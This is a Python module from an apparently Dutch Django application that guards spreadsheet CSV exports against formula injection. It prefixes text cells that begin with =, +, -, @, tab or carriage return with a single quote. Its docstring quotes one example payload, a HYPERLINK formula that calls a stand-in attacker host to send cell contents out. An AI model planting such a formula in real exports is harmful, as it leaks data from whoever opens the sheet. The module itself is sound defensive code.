"""CSV for spreadsheets, without formula injection: every export writes through this module.

A spreadsheet program takes a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some programs, a tab or carriage return before one of them) as a formula. A unit name or a
badge number typed by someone else, ``=HYPERLINK("https://evil.example/?"&A1;"klik")``,
then runs on the computer of whoever opens the export, and can send the sheet's other
cells away. Following OWASP's advice, such a text cell gets a leading single quote, which
the spreadsheet shows as text and does not evaluate.

Only text is neutralised. Numbers the export itself writes as numbers (`int`, `float`,
`Decimal`: hours, counts, a negative balance) stay numbers, so a sheet can still sum them;
the same figure arriving as text ("-5") is neutralised like any other text, because the
module cannot know where text came from.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

from django.utils.functional import Promise

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def neutralise(value: Any) -> Any:
    """The value as a spreadsheet may safely read it: text that could start a formula gets a
    leading single quote; numbers, dates and empty cells are left alone."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_TRIGGERS) else value
    return neutralise(str(value))


class SafeWriter:
    """`csv.writer` with every cell passed through `neutralise`."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, *, delimiter: str = ";", **options: Any) -> SafeWriter:
    """A CSV writer for exports; semicolons, as a Dutch spreadsheet expects."""
    return SafeWriter(out, delimiter=delimiter, **options)
